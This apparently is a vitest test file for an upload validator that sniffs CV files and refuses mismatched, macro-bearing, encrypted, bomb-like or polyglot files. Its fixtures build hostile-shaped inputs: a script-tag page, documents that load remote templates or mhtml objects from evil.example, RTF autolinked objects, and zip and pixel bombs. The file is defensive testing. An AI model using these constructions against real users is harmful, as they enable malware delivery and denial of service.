import { expect, test } from 'vitest'
import { aContainer, aDocx, anEntry, aJpeg, anOdt, aPdf, aPng, aZip } from './testing/aFile'
import { sniffFile } from './sniffFile'

const DOCM = 'application/vnd.ms-word.document.macroEnabled.main+xml'
const rtf = Buffer.from('{\\rtf1 Hello}')
const html = Buffer.from('<!doctype html><script>alert(1)</script>')
const program = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(2_000)])

test.each([
  ['pdf', aPdf(), 'pdf'],
  ['pdf', Buffer.concat([Buffer.from('\r\n\r\n'), aPdf()]), 'pdf'],
  ['doc', aContainer('WordDocument'), 'doc'],
  ['doc', rtf, 'rtf'],
  ['doc', aDocx(), 'docx'],
  ['docx', aDocx(), 'docx'],
  ['odt', anOdt(), 'odt'],
  ['rtf', rtf, 'rtf'],
  ['jpg', aJpeg(), 'jpg'],
  ['jpeg', aJpeg(), 'jpg'],
  ['jpg', Buffer.concat([aJpeg(), Buffer.alloc(500, 1)]), 'jpg'],
  ['png', aPng(), 'png'],
] as const)('a file named .%s is taken for what its bytes are', async (extension, bytes, type) => {
  expect(await sniffFile(bytes, extension)).toEqual({ type })
})

test.each([
  ['a PDF', aPdf(), { type: 'pdf' }],
  ['a Word document', aDocx(), { type: 'docx' }],
  ['a photo', aJpeg(), { type: 'jpg' }],
  ['a page', html, { fault: 'cvWrongType' }],
  ['a program', program, { fault: 'cvWrongType' }],
  ['a document with macros', aDocx([{ name: 'word/vbaProject.bin', content: 'x' }]), { fault: 'cvMacros' }],
] as const)('%s without an extension is judged by its bytes', async (_, bytes, verdict) => {
  expect(await sniffFile(bytes, '')).toEqual(verdict)
})

test.each([
  ['a page as PDF', html, 'pdf', 'cvWrongType'],
  ['a page as picture', html, 'png', 'cvWrongType'],
  ['a program as document', program, 'docx', 'cvWrongType'],
  ['a picture as PDF', aPng(), 'pdf', 'cvWrongType'],
  ['a PDF as picture', aPdf(), 'png', 'cvWrongType'],
  [
    'a spreadsheet as document',
    aZip([{ name: '[Content_Types].xml', content: 'sheet.main+xml' }]),
    'docx',
    'cvWrongType',
  ],
  ['an old spreadsheet as document', aContainer('Workbook'), 'doc', 'cvWrongType'],
  ['a document with macros', aDocx([{ name: 'word/vbaProject.bin', content: 'x' }]), 'docx', 'cvMacros'],
  [
    'a document with macros under another name',
    aZip([{ name: '[Content_Types].xml', content: DOCM }]),
    'docx',
    'cvMacros',
  ],
  ['a text with macros', anOdt('<manifest/>', [{ name: 'Basic/Standard/x.xml', content: 'x' }]), 'odt', 'cvMacros'],
  ['nonsense', Buffer.from('hello'), 'png', 'cvUnreadable'],
  ['a PDF of which only the header came', Buffer.from('%PDF-1.7\n'), 'pdf', 'cvUnreadable'],
  ['half an archive', aDocx().subarray(0, 60), 'docx', 'cvUnreadable'],
  ['half a picture', aPng().subarray(0, 40), 'png', 'cvUnreadable'],
  ['half a photo', aJpeg().subarray(0, 30), 'jpg', 'cvUnreadable'],
] as const)('%s is refused', async (_, bytes, extension, fault) => {
  expect(await sniffFile(bytes, extension)).toEqual({ fault })
})

const related = (type: string, target: string) =>
  aDocx([
    {
      name: 'word/_rels/settings.xml.rels',
      content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
    },
  ])

test('a document that loads a template or an object from the internet is refused as such; links, and templates of the own disk, are not', async () => {
  const loading = [
    related('attachedTemplate', 'https://evil.example/a.dotm'),
    related('oleObject', 'mhtml:https://evil.example/a.html!x'),
  ]
  for (const bytes of loading) expect(await sniffFile(bytes, 'docx')).toEqual({ fault: 'cvLoads' })
  const harmless = [
    related('hyperlink', 'https://www.linkedin.com/in/omar'),
    related('image', 'https://example.com/photo.png'),
    related('attachedTemplate', 'file:///C:\\Users\\omar\\Templates\\CV.dotx'),
  ]
  for (const bytes of harmless) expect(await sniffFile(bytes, 'docx')).toEqual({ type: 'docx' })

  const template = Buffer.from('{\\rtf1\\ansi{\\*\\template https://evil.example/a.dotm}CV}')
  const object = Buffer.from('{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}')
  for (const bytes of [template, object]) expect(await sniffFile(bytes, 'rtf')).toEqual({ fault: 'cvLoads' })
  const own = Buffer.from('{\\rtf1\\ansi{\\*\\template C:\\\\Templates\\\\CV.dotx}CV}')
  expect(await sniffFile(own, 'rtf')).toEqual({ type: 'rtf' })
})

test.each(['Macros', 'MACROS', '_VBA_PROJECT_CUR', 'VBA', '_VBA_PROJECT'])(
  'an old document with macros (%s) is refused as such',
  async (folder) => {
    const bytes = aContainer('WordDocument')
    anEntry(folder).copy(bytes, 512 + 128)
    expect(await sniffFile(bytes, 'doc')).toEqual({ fault: 'cvMacros' })
  },
)

test('an old document that only speaks of macros, or from which they were removed, is taken', async () => {
  const speaking = Buffer.concat([aContainer('WordDocument'), Buffer.from('Macros\0VBA\0'.repeat(99), 'utf16le')])
  const removed = aContainer('WordDocument')
  anEntry('Macros', 0).copy(removed, 512 + 128)

  for (const bytes of [speaking, removed]) expect(await sniffFile(bytes, 'doc')).toEqual({ type: 'doc' })
})

test.each([
  ['an encrypted document', aContainer('EncryptedPackage'), 'docx'],
  ['an encrypted old document', aContainer('WordDocument', 0x0100), 'doc'],
  ['an encrypted archive', aDocx([{ name: 'x', content: 'x', isEncrypted: true }]), 'docx'],
  ['an encrypted OpenDocument', anOdt('<manifest:encryption-data/>'), 'odt'],
] as const)('%s says that it is protected', async (_, bytes, extension) => {
  expect(await sniffFile(bytes, extension)).toEqual({ fault: 'cvPassword' })
})

test.each([
  ['more than an office file may hold', aDocx([{ name: 'x', content: Buffer.alloc(101 * 1024 * 1024) }])],
  ['more than it says', aDocx([{ name: 'x', content: Buffer.alloc(20 * 1024 * 1024), claims: 10 }])],
  ['less than it says', aDocx([{ name: 'x', content: 'x', claims: 10 }])],
] as const)('an archive that unpacks to %s is a bomb', async (_, bytes) => {
  expect(bytes.length).toBeLessThan(1024 * 1024)
  expect(await sniffFile(bytes, 'docx')).toEqual({ fault: 'cvUnreadable' })
})

test('an archive whose parts share their bytes is a bomb', async () => {
  const bytes = aDocx([{ name: 'x', content: 'x' }])
  // The last entry of the directory points at the first one's content.
  const last = bytes.lastIndexOf(Buffer.from('504b0102', 'hex'))
  bytes.writeUInt32LE(0, last + 42)
  expect(await sniffFile(bytes, 'docx')).toEqual({ fault: 'cvUnreadable' })
})

test('a picture of more pixels than anybody has is a bomb', async () => {
  expect(await sniffFile(aPng(60_000, 60_000), 'png')).toEqual({ fault: 'cvUnreadable' })
  expect(await sniffFile(aJpeg(60_000, 60_000), 'jpg')).toEqual({ fault: 'cvUnreadable' })
})

test.each([
  ['an archive behind a photo', Buffer.concat([aJpeg(), aDocx()]), 'jpg'],
  ['an archive behind a PDF', Buffer.concat([aPdf(), aDocx()]), 'pdf'],
  ['an archive behind a text', Buffer.concat([rtf, aZip([{ name: 'a.class', content: 'x' }])]), 'rtf'],
  ['a page in front of a PDF', Buffer.concat([html, aPdf()]), 'pdf'],
  ['a program in front of a PDF', Buffer.concat([Buffer.from('MZ'), aPdf()]), 'pdf'],
  [
    'a PDF in a photo',
    Buffer.concat([
      aJpeg().subarray(0, 20),
      Buffer.from('fffe000a', 'hex'),
      Buffer.from('%PDF-1.7'),
      aJpeg().subarray(20),
    ]),
    'jpg',
  ],
  ['something behind an archive', Buffer.concat([aDocx(), Buffer.from('more')]), 'docx'],
  ['something in front of an archive', Buffer.concat([Buffer.from('{\\rtf1}'), aDocx()]), 'rtf'],
] as const)('%s is two files, and refused', async (_, bytes, extension) => {
  expect(await sniffFile(bytes, extension)).toHaveProperty('fault')
})
